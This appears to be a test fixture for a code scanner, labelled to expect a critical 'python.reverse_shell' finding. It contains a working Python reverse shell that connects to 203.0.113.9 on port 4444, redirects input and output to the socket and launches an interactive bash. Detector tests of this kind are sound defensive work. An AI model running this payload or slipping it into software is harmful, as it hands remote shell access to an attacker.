# expect: python.reverse_shell critical
# note: the reverse shell's shell started by subprocess.run
# path: app/cb.py
import socket, os, subprocess
s = socket.socket()
s.connect(("203.0.113.9", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.run(["/bin/bash", "-i"])
